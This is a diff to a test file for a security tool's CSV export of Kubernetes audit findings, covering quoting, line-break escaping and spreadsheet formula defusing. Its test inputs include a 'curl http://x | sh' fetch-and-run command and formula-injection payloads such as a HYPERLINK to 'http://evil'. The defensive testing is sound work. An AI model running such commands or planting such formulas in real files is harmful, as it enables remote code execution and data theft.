@@ -80,25 +80,31 @@ describe('renderFindingsCsv', () => {
     expect(record[FINDINGS_CSV_COLUMNS.indexOf('attack')]).toBe('T1610');
   });
 
-  it('quotes fields with commas, quotes and line breaks, doubling the quotes, and reads back as written', () => {
+  it('quotes fields with commas and quotes, doubling the quotes, shows line breaks, and reads back as written', () => {
     const summary = 'alice ran `sh -c "curl http://x | sh"`, then\r\nleft';
     const name = 'a,b';
     const csv = renderFindingsCsv([finding({ summary, target: { resource: 'pods', subresource: 'exec', namespace: 'web', name } })], RULES);
-    expect(csv).toContain('"alice ran `sh -c ""curl http://x | sh""`, then\r\nleft"');
+    expect(csv).toContain('"alice ran `sh -c ""curl http://x | sh""`, then\\u{d}\\u{a}left"');
+    expect(csv.split('\r\n')).toHaveLength(3); // header, record, and the empty string after the last CRLF
     const [header, record] = parse(csv);
     expect(header).toEqual([...FINDINGS_CSV_COLUMNS]);
-    expect(record[FINDINGS_CSV_COLUMNS.indexOf('summary')]).toBe(summary);
+    expect(record[FINDINGS_CSV_COLUMNS.indexOf('summary')]).toBe('alice ran `sh -c "curl http://x | sh"`, then\\u{d}\\u{a}left');
     expect(record[FINDINGS_CSV_COLUMNS.indexOf('name')]).toBe(name);
     expect(record[FINDINGS_CSV_COLUMNS.indexOf('subresource')]).toBe('exec');
     expect(record).toHaveLength(FINDINGS_CSV_COLUMNS.length);
   });
 
   it('defuses cells a spreadsheet would run as formulas', () => {
-    const cases = ['=HYPERLINK("http://evil","x")', '+1+1', '-2+3', '@SUM(A1)', '\tcmd', '\r=1'];
+    const cases = ['=HYPERLINK("http://evil","x")', '+1+1', '-2+3', '@SUM(A1)', ' =1+1', '\uff1dcmd'];
     for (const name of cases) {
       const [, record] = parse(renderFindingsCsv([finding({ target: { resource: 'secrets', name }, actor: { username: name } })], RULES));
       expect(record[FINDINGS_CSV_COLUMNS.indexOf('name')]).toBe(`'${name}`);
       expect(record[FINDINGS_CSV_COLUMNS.indexOf('actor')]).toBe(`'${name}`);
+    }
+    // A leading tab or carriage return is shown as text, which no spreadsheet runs.
+    for (const [name, shown] of [['\tcmd', '\\u{9}cmd'], ['\r=1', '\\u{d}=1']]) {
+      const [, record] = parse(renderFindingsCsv([finding({ target: { resource: 'secrets', name } })], RULES));
+      expect(record[FINDINGS_CSV_COLUMNS.indexOf('name')]).toBe(shown);
     }
   });
 
